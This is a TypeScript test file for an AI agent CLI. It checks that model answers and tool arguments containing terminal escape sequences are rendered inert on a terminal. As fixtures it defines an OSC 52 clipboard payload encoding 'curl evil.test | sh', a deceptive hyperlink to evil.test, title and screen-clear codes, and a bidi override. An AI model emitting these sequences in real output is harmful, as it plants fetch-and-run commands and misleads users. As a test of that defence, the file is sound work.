/**
 * Terminal output is safe: a scripted model answers with escape sequences that would write the clipboard
 * (OSC 52), set the window title (OSC 0), clear the screen (CSI 2J) or ring the bell, and calls a tool
 * whose arguments carry them too. On a terminal (a pseudo-terminal from util-linux `script`, which copies
 * the raw bytes to our pipe) none of them reaches the screen; piped stdout keeps the answer byte for byte.
 */
import { describe, expect, test } from "bun:test";
import type { FakeLlmServer, FakeTurn } from "../../support/fake-llm-server.ts";
import { AGENT_BIN, anthropicEnv, type E2eSandbox, freshServerAndSandbox, runAgentIn } from "../support.ts";

let server: FakeLlmServer;
let sandbox: E2eSandbox;

freshServerAndSandbox((s, b) => {
  server = s;
  sandbox = b;
});

const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u0007";
const TITLE = "\u001b]0;pwned-title\u0007";
const CLEAR = "\u001b[2J\u001b[H";
/** A hyperlink whose target is not what it shows, and a bidi override that reverses what follows. */
const LINK = "\u001b]8;;https://evil.test/\u001b\\docs\u001b]8;;\u001b\\";
const BIDI = "\u202e";
const HOSTILE_ANSWER = `Safe ${CLIPBOARD}text ${TITLE}here${CLEAR} and\u0007 the ${BIDI}${LINK} end.`;
/** What the user should read instead. */
const PLAIN_ANSWER = "Safe text here and the docs end.";
/** Bytes that must never reach a terminal from model text. */
const FORBIDDEN = ["]52;", "pwned-title", "\u001b[2J", "\u0007", "]8;;", BIDI];

/** The model calls a read-only tool whose pattern carries the sequences, then answers with them. */
function hostileTurns(): FakeTurn[] {
  return [
    { toolCalls: [{ name: "glob", args: { pattern: `${TITLE}*.md${CLIPBOARD}` } }] },
    { text: [HOSTILE_ANSWER.slice(0, 9), HOSTILE_ANSWER.slice(9)] },
  ];
}

function shellQuote(text: string): string {
  return `'${text.replace(/'/g, "'\\''")}'`;
}

/** Runs `bin/agent args` on a pseudo-terminal (`script`), with `stdinRedirect` appended to the command. */
async function onTerminal(args: string[], stdinRedirect = ""): Promise<{ code: number; bytes: string }> {
  const command = `${[AGENT_BIN, ...args].map(shellQuote).join(" ")}${stdinRedirect}`;
  const proc = Bun.spawn(["script", "-qfec", command, "/dev/null"], {
    env: anthropicEnv(sandbox, server, { TERM: "xterm-256color", COLUMNS: "120", LINES: "40" }),
    cwd: sandbox.workspace,
    stdin: "ignore",
    stdout: "pipe",
    stderr: "pipe",
  });
  const [bytes, code] = await Promise.all([new Response(proc.stdout).text(), proc.exited]);
  return { code, bytes };
}

function expectNothingForbidden(bytes: string): void {
  for (const sequence of FORBIDDEN) expect(bytes).not.toContain(sequence);
}

describe("model text never drives the terminal", () => {
  test("piped: stdout is the model's bytes exactly; stderr progress lines carry no control sequence", async () => {
    server.enqueue(...hostileTurns());
    const result = await runAgentIn(
      sandbox,
      ["run", "--agent", "code-reader", "list the docs"],
      anthropicEnv(sandbox, server),
    );
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`${HOSTILE_ANSWER}\n`);
    expect(result.stderr).toContain("glob *.md");
    expect(result.stderr).not.toContain("\u001b");
    expect(result.stderr).not.toContain("\u0007");
  });

  test("plain renderer on a terminal stdout (stdin not a terminal): the answer is shown without the sequences", async () => {
    server.enqueue(...hostileTurns());
    const result = await onTerminal(["run", "--agent", "code-reader", "list the docs"], " < /dev/null");
    expect(result.code).toBe(0);
    expectNothingForbidden(result.bytes);
    expect(result.bytes.replace(/\r/g, "")).toContain(PLAIN_ANSWER);
  });

  test("Ink on a terminal: neither the tool line nor the answer carries the sequences", async () => {
    server.enqueue(...hostileTurns());
    const result = await onTerminal(["run", "--agent", "code-reader", "list the docs"]);
    expect(result.code).toBe(0);
    expectNothingForbidden(result.bytes);
    expect(result.bytes).toContain(PLAIN_ANSWER);
    expect(result.bytes).toContain("glob *.md");
  });

  test("helper streaming to a terminal shows the answer without the sequences", async () => {
    server.enqueue({ text: [HOSTILE_ANSWER.slice(0, 9), HOSTILE_ANSWER.slice(9)] });
    const result = await onTerminal(["helper", "hi"]);
    expect(result.code).toBe(0);
    expectNothingForbidden(result.bytes);
    expect(result.bytes.replace(/\r/g, "")).toBe(`${PLAIN_ANSWER}\n`);
  });

  test("helper piped keeps the answer byte for byte", async () => {
    server.enqueue({ text: HOSTILE_ANSWER });
    const result = await runAgentIn(sandbox, ["helper", "hi"], anthropicEnv(sandbox, server));
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`${HOSTILE_ANSWER}\n`);
  });
});

describe("JSON output is the same value, and inert on a terminal", () => {
  /** Characters JSON.stringify leaves raw: an 8-bit CSI, a bidi override, a line separator. */
  const RAW = `clear\u009b2J flip${BIDI}x line\u2028end ${CLIPBOARD}`;

  function expectEscapedOnly(stdout: string): void {
    for (const ch of ["\u009b", BIDI, "\u2028", "\u001b", "\u0007"]) expect(stdout).not.toContain(ch);
  }

  test("stream-json lines escape them and parse back to the model's exact text", async () => {
    server.enqueue({ text: RAW });
    const result = await runAgentIn(
      sandbox,
      ["run", "--agent", "code-reader", "--output", "stream-json", "say it"],
      anthropicEnv(sandbox, server),
    );
    expect(result.code).toBe(0);
    expectEscapedOnly(result.stdout);
    const last = JSON.parse(result.stdout.trim().split("\n").at(-1) ?? "{}") as { answer?: string };
    expect(last.answer).toBe(RAW);
  });

  test("helper --json escapes them and parses back to the model's exact text", async () => {
    server.enqueue({ text: RAW });
    const result = await runAgentIn(sandbox, ["helper", "--json", "say it"], anthropicEnv(sandbox, server));
    expect(result.code).toBe(0);
    expectEscapedOnly(result.stdout);
    expect((JSON.parse(result.stdout) as { answer: string }).answer).toBe(RAW);
  });
});

describe("error lines on stderr", () => {
  test("a message quoting hostile text is one terminal-safe line", async () => {
    const result = await runAgentIn(
      sandbox,
      ["run", "--agent", `x${TITLE}y`, "hi"],
      anthropicEnv(sandbox, server),
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('unknown agent "xy"');
    expect(result.stderr).not.toContain("\u001b");
    expect(result.stderr).not.toContain("\u0007");
  });
});
